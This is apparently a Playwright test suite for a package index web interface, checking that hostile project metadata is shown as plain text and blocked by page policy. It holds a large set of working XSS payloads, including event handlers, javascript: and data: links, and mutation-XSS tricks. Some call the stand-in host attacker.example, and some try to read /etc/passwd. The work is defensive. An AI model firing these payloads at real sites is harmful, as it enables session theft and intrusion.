"""Texts of somebody who means harm, on the pages for people, in a real browser."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import feedparser  # type: ignore[import-untyped]
import pytest
from kit import people, public_index, wheel
from kit.gateway import behind_gateway
from kit.template import PASSWORD
from kit.waiting import wait_until
from playwright.sync_api import Browser, Page, expect

ATTACKER = "https://attacker.example"
SCRIPT = "window.hacked=1;alert(1)"
REFRESH = f'<meta http-equiv="refresh" content="0;url={ATTACKER}/">'
RAW = f"""\
<script>{SCRIPT}</script>
<script src="{ATTACKER}/x.js"></script>
<img src=x onerror="{SCRIPT}">
<img src="{ATTACKER}/pixel.png" srcset="{ATTACKER}/2.png 2x" alt="pixel">
<iframe src="{ATTACKER}/frame" srcdoc="<script>parent.hacked=1</script>"></iframe>
<object data="{ATTACKER}/o.swf"></object><embed src="{ATTACKER}/e.swf">
<video src="{ATTACKER}/v.mp4" poster="{ATTACKER}/v.png" autoplay></video>
<audio src="{ATTACKER}/a"></audio>
<link rel="stylesheet" href="{ATTACKER}/x.css"><link rel="prefetch" href="{ATTACKER}/next">
<style>@import url({ATTACKER}/y.css);
body {{ background: url({ATTACKER}/b.png); display: none }}</style>
{REFRESH}
<base href="{ATTACKER}/">
<form action="{ATTACKER}/login" onsubmit="{SCRIPT}">
<input name="password" autofocus onfocus="{SCRIPT}">
<button formaction="javascript:{SCRIPT}">Log in</button></form>
<svg onload="{SCRIPT}"><script>{SCRIPT}</script><image href="{ATTACKER}/s.png"/>
<a xlink:href="javascript:{SCRIPT}"><text y="9">svg</text></a>
<animate onbegin="{SCRIPT}" attributeName="x"/></svg>
<p style="position:fixed;inset:0;background:url({ATTACKER}/p.png)" onclick="{SCRIPT}"
class="skip" id="main">raw</p>
<a href="javascript:{SCRIPT}">js</a> <a href="java&#10;script:{SCRIPT}">newline</a>
<a href="data:text/html,<script>alert(1)</script>">data</a> <a href="vbscript:x">vb</a>
<a href="//attacker.example/relative" ping="{ATTACKER}/ping" target="_blank">protocol</a>
<a href="../../simple/">relative</a>
<details open ontoggle="{SCRIPT}"><summary>more</summary></details>
<a href="{ATTACKER}/shown" target="_blank" onmouseover="{SCRIPT}">harmless link</a>
<noscript><p title="</noscript><img src=x onerror={SCRIPT}>"></noscript>
<template><img src=x onerror="{SCRIPT}"></template><a id="site" name="documentElement">clobber</a>

The end is shown.

<math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src=1 onerror={SCRIPT}&gt;"></table></math>
"""
MARKDOWN = f"""\
# Hostile

{RAW}

[js](javascript:{SCRIPT}) [tab](java\tscript:{SCRIPT}) [data](data:text/html;base64,PHNjcmlwdD4=)
![image]({ATTACKER}/m.png "onerror={SCRIPT}") ![js](javascript:{SCRIPT})
<javascript:{SCRIPT}> [ref]

[ref]: javascript:{SCRIPT} "x"

```html" onclick="{SCRIPT}
<script>{SCRIPT}</script>
```
"""
RST = f"""\
Hostile
=======

`js <javascript:{SCRIPT}>`_ and `data <data:text/html,x>`_

.. image:: {ATTACKER}/r.png
   :target: javascript:{SCRIPT}

.. figure:: {ATTACKER}/f.svg
   :alt: figure

.. code:: html

   <script>{SCRIPT}</script>

{RAW}
"""
DIRECTIVES = f"""\
Hostile
=======

.. raw:: html

   <script>{SCRIPT}</script><img src={ATTACKER}/raw.png>

.. include:: /etc/passwd

.. csv-table::
   :url: {ATTACKER}/table.csv
"""
MARK = f'"><script>{SCRIPT}</script><img src=x onerror={SCRIPT}>'
FIELDS = f"""\
Summary: {MARK}</summary>{{{{ 7 * 7 }}}}<!--
Keywords: {MARK},</script>
Author: {MARK}
Author-email: "{MARK}" <a"onmouseover={SCRIPT}@attacker.example>
Maintainer-email: javascript:{SCRIPT}
License: {MARK}
Classifier: {MARK}
Home-page: javascript:{SCRIPT}
Download-URL: data:text/html,{MARK}
Project-URL: js, javascript:{SCRIPT}
Project-URL: {MARK}, {ATTACKER}/"onmouseover="{SCRIPT}
Project-URL: file, file:///etc/passwd
Requires-Dist: held @ javascript:{SCRIPT}
Requires-Dist: url @ https://attacker.example/"onclick="{SCRIPT}
Requires-Python: >=3
"""
PROJECTS = {
    "in-markdown": ("text/markdown", MARKDOWN),
    "in-html": ("text/markdown; variant=CommonMark", RAW),
    "in-rst": ("text/x-rst", RST),
    "in-directives": ("text/x-rst", DIRECTIVES),
    "in-plain": ("text/plain", RAW),
    "in-nothing": (f"text/html{MARK}", RAW),
}
"""The type and the text of each project's description."""
PAGES = ("", "projects.html", *(f"project/{name}/" for name in PROJECTS))


@pytest.fixture(scope="module")
def urls(rendered: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, str]]:
    """The URLs of the two programs of a running index to which an attacker has published."""
    folder = tmp_path_factory.mktemp("hostile")
    server, gateway = behind_gateway(rendered, folder / "s")
    server.user("add", "alice", "--role", "publisher", password=PASSWORD)
    with server, gateway:
        for name, (kind, text) in PROJECTS.items():
            fields = f"{FIELDS}Description-Content-Type: {kind}\n"
            people.publish(gateway.url, wheel.described(folder, name, "1.0", fields, text))
            server.run("yank", "--reason", MARK, "--", name, "1.0")
        people.wait_for(gateway.url, *PROJECTS)
        for name in PROJECTS:
            people.wait_for_text(gateway.url, f"/project/{name}/", "is yanked")
        yield {"gateway": gateway.url, "private_pypi": server.url().rstrip("/")}


@pytest.fixture(params=["gateway", "private_pypi"])
def page(browser: Browser, urls: dict[str, str], request: pytest.FixtureRequest) -> Iterator[Page]:
    """A window in which no script of a stranger may run, and from which no request may leave."""
    with people.window(browser, urls[request.param]) as opened:
        yield opened
        opened.wait_for_load_state("networkidle")
        assert opened.evaluate("window.hacked") is None


FOUND = """
[...document.querySelectorAll("*")].flatMap(it => [...it.attributes].map(
    one => [it.localName, one.name, one.value])
)
"""


@pytest.mark.parametrize("path", PAGES)
def test_nothing_of_a_stranger_runs_loads_or_leads_away(page: Page, path: str) -> None:
    page.goto(path)
    where = page.url
    # What is folded may load as well, once it is seen.
    page.evaluate("document.querySelectorAll('details').forEach(it => { it.open = true })")
    page.mouse.move(400, 400)
    for _ in range(4):
        page.keyboard.press("PageDown")

    attributes = page.evaluate(FOUND)
    assert not [one for one in attributes if one[1].startswith("on") or one[1] in ("style", "ping")]
    addresses = [value for tag, name, value in attributes if name in ("href", "action", "src")]
    schemes = {value.partition(":")[0] for value in addresses if ":" in value}
    assert schemes <= {"http", "https", "mailto"}
    elements = {tag for tag, *_ in attributes} | set(
        page.evaluate("[...document.querySelectorAll('*')].map(it => it.localName)")
    )
    assert not elements & {
        *("iframe", "object", "embed", "base", "video", "audio", "style", "template", "math"),
        *("svg", "image", "animate", "textarea", "select", "noscript"),
    }
    assert page.locator("script").count() == page.locator("form").count() == 1
    assert page.locator("meta[http-equiv]").count() == 0
    assert page.url == where


INSERT = """
([html, url]) => new Promise(done => {
    document.body.insertAdjacentHTML("beforeend", html);
    const script = document.createElement("script");
    script.onerror = script.onload = done;
    script.src = `${url}/now.js`;
    document.body.append(script);
})
"""


@pytest.mark.parametrize("program", ["gateway", "private_pypi"])
def test_the_policy_stops_what_would_get_into_a_page(
    browser: Browser, urls: dict[str, str], tmp_path: Path, program: str
) -> None:
    """It is a second wall, in case that the first one falls."""
    login: Any = {"username": "alice", "password": PASSWORD}
    with (
        public_index.running(tmp_path) as attacker,
        browser.new_context(http_credentials=login) as context,
    ):
        # No policy stops a refresh, so that one is not in here.
        theirs = attacker.url.removesuffix("/simple/")
        hostile = [RAW.replace(REFRESH, "").replace(ATTACKER, theirs), theirs]
        page = context.new_page()
        page.goto(f"{urls[program]}/project/in-html/")
        page.evaluate(INSERT, hostile)
        page.evaluate("document.querySelector('form[onsubmit]').submit()")
        page.wait_for_load_state("networkidle")

        assert page.evaluate("window.hacked") is None
        assert page.url == f"{urls[program]}/project/in-html/"
        assert attacker.requests == []

        # Where there is no policy, all this does harm.
        wheel.build(tmp_path, "theirs", "1.0", origin="a stranger")
        page.goto(f"{attacker.url}theirs/")
        page.on("dialog", lambda dialog: dialog.dismiss())
        page.evaluate(INSERT, hostile)
        wait_until(lambda: page.evaluate("window.hacked"))
        wanted = {"/now.js", "/x.css", "/y.css", "/v.mp4"}
        wait_until(lambda: wanted <= {path for path, _ in attacker.requests})


@pytest.mark.parametrize("name", PROJECTS)
def test_texts_are_shown_as_they_were_written(page: Page, name: str) -> None:
    page.goto(f"project/{name}/")

    expect(page.locator("main .summary").first).to_have_text(f"{MARK}</summary>{{{{ 7 * 7 }}}}<!--")
    facts = page.get_by_role("region", name="Facts")
    assert facts.inner_text().count(f"<script>{SCRIPT}</script>") >= 3
    expect(page.locator(".notice").first).to_contain_text(MARK)
    expect(page.get_by_role("region", name="History")).to_contain_text(MARK)
    expect(page.get_by_role("heading", level=1).first).to_contain_text(name)
    assert "root:" not in page.content()
    # Nothing of what stands before it swallows the rest.
    if name != "in-directives":
        expect(page.locator(".description")).to_contain_text("The end is shown.")


def test_a_link_of_a_description_tells_nothing_of_where_it_was(page: Page) -> None:
    page.goto("project/in-markdown/")

    link = page.get_by_role("link", name="harmless link")
    assert link.get_attribute("href") == f"{ATTACKER}/shown"
    rel = link.get_attribute("rel") or ""
    assert {"nofollow", "noopener", "noreferrer"} <= set(rel.split())
    assert link.get_attribute("target") is None


def test_no_id_of_a_description_is_one_of_the_page(page: Page) -> None:
    page.goto("project/in-html/")

    ids = page.evaluate("[...document.querySelectorAll('.description [id]')].map(it => it.id)")
    assert ids
    assert all(one.startswith("text-") for one in ids)
    assert page.locator("#main").count() == 1


def test_the_search_shows_texts_as_text(page: Page) -> None:
    page.goto("")
    page.get_by_role("searchbox").fill("alert")
    rows = page.locator(".search.open li")
    expect(rows).to_have_count(len(PROJECTS))

    for row in rows.all():
        expect(row).to_contain_text(MARK)
    assert page.locator(".search :is(script, img)").count() == 0


def test_a_query_is_no_html(page: Page) -> None:
    page.goto("?q=%3Cimg%20src%3Dx%20onerror%3Dwindow.hacked%3D1%3E")

    status = page.locator(".search [role=status]")
    expect(status).to_contain_text("No project matches “<img src=x onerror=window.hacked=1>”.")


@pytest.mark.parametrize("path", ["/", "/project/in-markdown/"])
def test_the_feeds_have_texts_as_text(urls: dict[str, str], path: str) -> None:
    content = people.get(urls["gateway"], f"{path}feed.atom").body

    feed: Any = feedparser.parse(content, sanitize_html=False)
    assert feed.bozo == 0
    assert b"<script" not in content
    assert {one.summary_detail.type for one in feed.entries} == {"text/plain"}
    assert {one.summary for one in feed.entries} == {f"{MARK}</summary>{{{{ 7 * 7 }}}}<!--"}
